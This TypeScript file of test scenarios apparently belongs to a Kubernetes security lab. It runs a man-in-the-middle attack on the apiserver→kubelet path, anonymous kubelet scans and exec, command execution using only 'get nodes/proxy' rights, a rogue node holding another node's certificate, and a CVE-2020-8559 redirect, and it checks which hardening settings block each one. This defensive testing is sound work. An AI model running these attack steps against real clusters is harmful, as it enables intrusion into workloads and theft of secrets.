// Scenarios for the attacks of the catalogue on the apiserver → kubelet path (C9, C10), on one host: the man in
// the middle stands on the address node-1 advertises, the scanner reaches the kubelets' ports.
import {
  channelText,
  DEFAULT_FORGED_LOG,
  nodesProxyExec,
  scanKubelet,
  startMaliciousKubelet,
  startRedirectTarget,
  startRogueNode,
  submitServingCsr,
  waitForIssuedCertificate,
  type RogueKubelet,
} from '@hubspoke/attacker';
import { createSelfSignedServingCert } from '@hubspoke/pki';
import { Observations, type Scenario } from './scenario.ts';
import type { ScenarioLab } from './scenario-lab.ts';

const LOGGER = { image: 'hubspoke/logger', env: [{ name: 'INTERVAL_MS', value: '100' }] };
const SHELL = { image: 'hubspoke/shell', command: ['sh', '-c', 'sleep 100000'] };

/** Run `kubectl logs` and `exec` of pods on node-1 and report what the attacker captured of each. */
async function interceptLogsAndExec(lab: ScenarioLab, o: Observations): Promise<{ logs: string; logBody?: string; execOutput: string; requests: string[] }> {
  await Promise.all([lab.runPod('chatty', LOGGER), lab.runPod('shell', SHELL)]);
  const before = lab.mitm!.captures().length;
  const logs = await lab.kubectl(['logs', 'chatty', '--tail=2']);
  o.note(`kubectl logs: exit ${logs.code}: ${(logs.stdout || logs.stderr).trim().split('\n').at(-1)}`);
  await lab.kubectl(['exec', 'shell', '--', 'sh', '-c', 'echo the-secret-is-42']);
  const captures = lab.mitm!.captures().slice(before);
  const exchanges = captures.flatMap((c) => c.exchanges);
  const requests = exchanges.map((x) => `${x.request.method} ${x.request.target}`);
  const logExchange = exchanges.find((x) => x.request.target?.startsWith('/containerLogs/default/chatty/chatty'));
  const execOutput = captures.map((c) => channelText(c, 1, 'to-apiserver')).join('');
  for (const r of requests) o.note(`the attacker read the request: ${r}`);
  if (logExchange?.response) o.note(`the kubelet answered the attacker: ${logExchange.response.status} ${logExchange.response.body.trim().split('\n').at(-1)}`);
  if (execOutput) o.note(`the attacker read exec output: ${JSON.stringify(execOutput)}`);
  return { logs: logs.stdout, logBody: logExchange?.response?.status === 200 ? logExchange.response.body : undefined, execOutput, requests };
}

/**
 * node-2's owner asks the certificates API, as node-2, for a kubelet-serving certificate that names node-1's
 * advertised address too; the admin approves it; the rogue answers on node-1's address with it.
 */
async function rogueNode2(lab: ScenarioLab, o: Observations): Promise<RogueKubelet> {
  const node2 = lab.cluster.pki.nodes['node-2'].client;
  const identity = { server: lab.cluster.server, caCert: lab.cluster.pki.ca.cert, clientCert: node2.cert, clientKey: node2.key };
  const csr = await submitServingCsr({ ...identity, nodeName: 'node-2', ipAddresses: [lab.cluster.kubelets[1].address, lab.attacker!.address], csrName: 'node-2-serving' });
  const approve = await lab.kubectl(['certificate', 'approve', csr.name]);
  o.note(`the admin: ${approve.stdout.trim()} (CN system:node:node-2; IPs ${lab.cluster.kubelets[1].address} and ${lab.attacker!.address}, node-1's)`);
  const cert = await waitForIssuedCertificate({ ...identity, name: csr.name });
  return startRogueNode({ listen: { host: lab.attacker!.address, port: lab.attacker!.port }, tls: { cert, key: csr.key } });
}

export const ATTACK_SCENARIOS: Scenario[] = [
  {
    id: 'mitm-kubernetes-defaults',
    claims: ['C9'],
    attack: 'mitm-observe',
    title: 'A man in the middle between apiserver and kubelet, with Kubernetes\' defaults',
    claim: 'The apiserver does not verify the kubelet\'s serving certificate, so whoever answers for a node\'s address completes TLS with it and reads its requests. The attacker cannot present the apiserver\'s client certificate, so a kubelet that refuses anonymous callers does not answer it.',
    topology: { profile: 'kubernetes-defaults', attackerOnNode1: 'mitm' },
    steps: ['hubspoke up (node-1 advertising the attacker\'s address)', 'kubectl logs chatty --tail=2', "kubectl exec shell -- sh -c 'echo the-secret-is-42'"],
    expected: 'The attacker reads both requests (the pod, the command and its arguments); the kubelet refuses the attacker\'s own connection (401), so kubectl fails with Unauthorized and the output is not read.',
    async run(lab) {
      const o = new Observations();
      const seen = await interceptLogsAndExec(lab, o);
      o.expect(seen.requests.some((r) => r.startsWith('GET /containerLogs/default/chatty/chatty')), 'mitm-observe succeeds: the attacker read the logs request');
      o.expect(seen.requests.some((r) => r.startsWith('GET /exec/default/shell/shell') && r.includes('the-secret-is-42')), 'the attacker read the exec command line, secret included');
      o.expect(seen.logBody === undefined && !seen.execOutput.includes('the-secret-is-42'), 'mitm-read-output is blocked: the kubelet refused the attacker (anonymous auth off)');
      return o.result();
    },
  },
  {
    id: 'mitm-wide-open',
    claims: ['C9'],
    attack: 'mitm-read-output',
    title: 'A man in the middle in front of a kubelet that serves anonymous callers',
    claim: 'With the kubelet\'s command-line defaults (anonymous requests allowed, AlwaysAllow), the attacker relays the apiserver\'s requests as itself and reads the answers: log text and command output in plaintext.',
    topology: { profile: 'wide-open', attackerOnNode1: 'mitm' },
    steps: ['hubspoke up --profile wide-open (node-1 advertising the attacker\'s address)', 'kubectl logs chatty --tail=2', "kubectl exec shell -- sh -c 'echo the-secret-is-42'"],
    expected: 'kubectl works as usual, and the attacker holds the same log lines and the command\'s output.',
    async run(lab) {
      const o = new Observations();
      const seen = await interceptLogsAndExec(lab, o);
      o.expect(seen.logBody !== undefined && seen.logBody === seen.logs, 'the attacker read exactly the log text kubectl printed');
      o.expect(seen.execOutput.includes('the-secret-is-42'), 'the attacker read the exec output');
      return o.result();
    },
  },
  {
    id: 'mitm-verified',
    claims: ['C10'],
    attack: 'mitm-observe',
    title: '--kubelet-certificate-authority stops the man in the middle',
    claim: 'Give the apiserver the CA that signs the kubelets\' serving certificates and it refuses any other certificate: the attacker\'s handshake fails and it learns nothing.',
    topology: { profile: 'hardened', egress: 'direct', attackerOnNode1: 'mitm' },
    steps: ['hubspoke up --profile hardened --egress direct (node-1 advertising the attacker\'s address)', 'kubectl logs chatty'],
    expected: 'kubectl logs fails with x509: certificate signed by unknown authority, and the attacker captured nothing.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('chatty', LOGGER);
      const logs = await lab.kubectl(['logs', 'chatty']);
      o.note(`kubectl logs: ${logs.stderr.trim()}`);
      o.expect(logs.code !== 0 && logs.stderr.includes('x509: certificate signed by unknown authority'), 'the apiserver refused the attacker\'s certificate');
      o.expect(lab.mitm!.captures().length === 0, `the attacker captured nothing (${lab.mitm!.failures().length} refused handshakes)`);
      return o.result();
    },
  },
  {
    id: 'kubelet-anonymous-wide-open',
    claims: ['C10'],
    attack: 'kubelet-anonymous-exec',
    title: 'Anyone who reaches a wide-open kubelet reads its pods and runs commands',
    claim: 'Without kubelet authentication and authorization, the kubelet\'s API is open to anyone on the node network: pods, logs, commands, port-forwards, and the read-only port.',
    topology: { profile: 'wide-open' },
    steps: ['hubspoke up --profile wide-open', 'hubspoke-attacker scan --target 127.0.10.1:10250 --read-only-port 10255'],
    expected: 'The scan reads /pods, runs a command through /run and exec, and reads the read-only port, all without credentials.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('echo', { image: 'hubspoke/echo', ports: [{ containerPort: 9000 }] });
      const k = lab.cluster.kubelets[0];
      const report = await scanKubelet({ target: `${k.address}:${k.port}`, readOnlyPort: k.readOnlyPort });
      for (const p of report.probes) o.note(`${p.probe}: ${p.status ?? '-'} ${p.outcome}`);
      o.expect(report.attacks['kubelet-anonymous-read'] === 'succeeds', 'kubelet-anonymous-read succeeds');
      o.expect(report.attacks['kubelet-anonymous-exec'] === 'succeeds', 'kubelet-anonymous-exec succeeds');
      o.expect(report.attacks['kubelet-readonly-read'] === 'succeeds', 'kubelet-readonly-read succeeds');
      return o.result();
    },
  },
  {
    id: 'kubelet-anonymous-refused',
    claims: ['C10'],
    attack: 'kubelet-anonymous-read',
    title: 'Kubelet authentication turns the same scan away',
    claim: 'With anonymous requests off and Webhook authorization (the KubeletConfiguration defaults), the kubelet answers 401 to anyone without credentials, and the read-only port is closed.',
    topology: { profile: 'kubernetes-defaults' },
    steps: ['hubspoke up', 'hubspoke-attacker scan --target 127.0.10.1:10250'],
    expected: 'Every probe gets 401 Unauthorized and the read-only port refuses connections.',
    async run(lab) {
      const o = new Observations();
      const k = lab.cluster.kubelets[0];
      const report = await scanKubelet({ target: `${k.address}:${k.port}`, readOnlyPort: 10255 });
      for (const p of report.probes) o.note(`${p.probe}: ${p.status ?? '-'} ${p.outcome}`);
      o.expect(Object.values(report.attacks).every((a) => a === 'blocked'), 'all three kubelet attacks are blocked');
      return o.result();
    },
  },
  {
    id: 'nodes-proxy-get-exec',
    claims: ['C10'],
    attack: 'nodes-proxy-exec',
    title: '`get nodes/proxy` is not read-only: it runs commands over a WebSocket',
    claim: 'Kubelet authorization maps HTTP methods to verbs, and a WebSocket exec starts as a GET, so an identity allowed only to get nodes/proxy (monitoring agents often are) can run commands in every pod of the node, straight on the kubelet and through the apiserver\'s node proxy.',
    topology: { profile: 'kubernetes-defaults' },
    steps: [
      'kubectl create serviceaccount monitor; kubectl create clusterrole nodes-proxy-get --verb=get --resource=nodes/proxy',
      'kubectl create clusterrolebinding monitor --clusterrole=nodes-proxy-get --serviceaccount=default:monitor',
      'hubspoke-attacker nodes-proxy-exec --kubelet 127.0.10.1:10250 --token "$(kubectl create token monitor)" --pod shell --command id',
      'kubectl --token "$(kubectl create token monitor)" exec shell -- id    # Forbidden: the monitor may not even get pods',
    ],
    expected: 'kubectl exec is Forbidden for the monitor, yet the same token runs `id` in the pod through a WebSocket to the kubelet, and through the apiserver\'s nodes/node-1/proxy.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('shell', SHELL);
      await lab.kubectl(['create', 'serviceaccount', 'monitor']);
      await lab.kubectl(['create', 'clusterrole', 'nodes-proxy-get', '--verb=get', '--resource=nodes/proxy']);
      await lab.kubectl(['create', 'clusterrolebinding', 'monitor', '--clusterrole=nodes-proxy-get', '--serviceaccount=default:monitor']);
      const token = (await lab.kubectl(['create', 'token', 'monitor'])).stdout.trim();
      const viaKubectl = await lab.kubectl(['exec', 'shell', '--', 'id'], { kubeconfig: await lab.tokenKubeconfig('monitor', token) });
      o.note(`kubectl exec as the monitor: ${viaKubectl.stderr.trim()}`);
      o.expect(viaKubectl.code !== 0 && viaKubectl.stderr.includes('User "system:serviceaccount:default:monitor" cannot'), 'kubectl exec is Forbidden: through the API, the monitor may not even read the pod');
      const k = lab.cluster.kubelets[0];
      const target = { namespace: 'default', pod: 'shell', container: 'shell', command: ['id'], credentials: { token } };
      const direct = await nodesProxyExec({ ...target, route: { via: 'kubelet', kubelet: `${k.address}:${k.port}` } });
      o.note(`straight to the kubelet: ${direct.outcome}${direct.outcome === 'executed' ? `, output ${JSON.stringify(direct.output)}` : ''}`);
      o.expect(direct.outcome === 'executed' && direct.output.includes('uid=0(root)'), 'get nodes/proxy runs a command on the kubelet');
      const proxied = await nodesProxyExec({ ...target, route: { via: 'apiserver', server: lab.cluster.server, node: 'node-1' } });
      o.note(`through the apiserver's node proxy: ${proxied.outcome}`);
      o.expect(proxied.outcome === 'executed', 'and through nodes/node-1/proxy');
      return o.result();
    },
  },
  {
    id: 'rogue-node',
    claims: ['C10'],
    attack: 'rogue-node',
    title: 'A node with a cluster-signed certificate answers for another node',
    claim: '--kubelet-certificate-authority checks that the certificate comes from the cluster CA and names the address dialled, not whose it is: a compromised node that got a serving certificate naming another node\'s address (approvers rarely check IPs) can answer for that node.',
    topology: { profile: 'hardened', egress: 'direct', attackerOnNode1: 'vacant' },
    steps: [
      'as node-2: create a kubelet-serving CSR for CN system:node:node-2 with node-1\'s address among its IPs',
      'kubectl certificate approve node-2-serving',
      'hubspoke-attacker rogue-kubelet --mode rogue-node --listen <node-1\'s address>:10250 --tls-cert-file … --tls-private-key-file …',
      'kubectl logs chatty    # chatty runs on node-1',
    ],
    expected: 'The apiserver verifies the rogue\'s certificate (cluster CA, right address) and kubectl prints the rogue\'s forged log text.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('chatty', LOGGER);
      const rogue = await rogueNode2(lab, o);
      try {
        const logs = await lab.kubectl(['logs', 'chatty']);
        o.note(`kubectl logs chatty: ${JSON.stringify(logs.stdout || logs.stderr)}`);
        o.expect(logs.code === 0 && logs.stdout === DEFAULT_FORGED_LOG, 'the user reads the rogue\'s forged log');
        o.expect(rogue.connections().some((c) => c.clientCN === 'kube-apiserver-kubelet-client'), 'the apiserver presented its kubelet client certificate to the rogue');
      } finally {
        await rogue.close();
      }
      return o.result();
    },
  },
  {
    id: 'rogue-node-cn-check',
    claims: ['C10'],
    attack: 'rogue-node',
    title: 'KubeletCertCNValidation asks whose certificate it is',
    claim: 'KEP-4872 (not in a Kubernetes release yet) makes the apiserver require the kubelet certificate\'s CN to be system:node:<the node dialled>; the rogue node\'s honest CN gives it away.',
    topology: { profile: 'hardened', egress: 'direct', apiserverArgs: ['--feature-gates=KubeletCertCNValidation=true'], attackerOnNode1: 'vacant' },
    steps: [
      'hubspoke up --profile hardened --egress direct --apiserver-arg=--feature-gates=KubeletCertCNValidation=true',
      'the same rogue node as in rogue-node',
      'kubectl logs chatty',
    ],
    expected: 'kubectl logs fails with `kubelet serving certificate CN "system:node:node-2" does not match node "node-1"`, and the rogue receives no request.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('chatty', LOGGER);
      const rogue = await rogueNode2(lab, o);
      try {
        const logs = await lab.kubectl(['logs', 'chatty']);
        o.note(`kubectl logs chatty: ${logs.stderr.trim()}`);
        o.expect(logs.code !== 0 && logs.stderr.includes('kubelet serving certificate CN "system:node:node-2" does not match node "node-1"'), 'the apiserver refused the certificate of another node');
        o.expect(rogue.requests().length === 0, 'the rogue received no request');
      } finally {
        await rogue.close();
      }
      return o.result();
    },
  },
  {
    id: 'upgrade-redirect',
    claims: ['C8', 'C9'],
    attack: 'upgrade-redirect',
    title: 'A malicious kubelet redirects an exec upgrade elsewhere (CVE-2020-8559)',
    claim: 'Whoever answers for a node can answer the apiserver\'s exec upgrade with a redirect to another host, hoping the apiserver follows it with its credentials. Since the fix the apiserver refuses any non-101 answer to an upgrade instead of following it.',
    topology: { profile: 'kubernetes-defaults', attackerOnNode1: 'vacant' },
    steps: [
      'hubspoke-attacker rogue-kubelet --mode redirect --listen <node-1\'s address>:10250 --redirect-to https://<elsewhere>',
      'kubectl exec shell -- id    # shell runs on node-1',
    ],
    expected: 'kubectl exec fails with `invalid upgrade response: status code 302`, and the redirect target receives nothing.',
    async run(lab) {
      const o = new Observations();
      await lab.runPod('shell', SHELL);
      const target = await startRedirectTarget({ host: lab.attacker!.address, port: 0 });
      const tls = await createSelfSignedServingCert({ host: lab.attacker!.address });
      const rogue = await startMaliciousKubelet({
        listen: { host: lab.attacker!.address, port: lab.attacker!.port },
        tls,
        mode: { kind: 'redirect', location: target.url },
      });
      try {
        const exec = await lab.kubectl(['exec', 'shell', '--', 'id']);
        o.note(`kubectl exec: ${exec.stderr.trim()}`);
        o.note(`the malicious kubelet answered: ${rogue.requests().map((r) => `${r.method} ${r.target.split('?')[0]}`).join(', ')}`);
        o.expect(exec.code !== 0 && exec.stderr.includes('invalid upgrade response: status code 302'), 'the apiserver refused the redirected upgrade');
        o.expect(target.arrivals().length === 0, 'the redirect target received nothing');
      } finally {
        await rogue.close();
        await target.close();
      }
      return o.result();
    },
  },
];
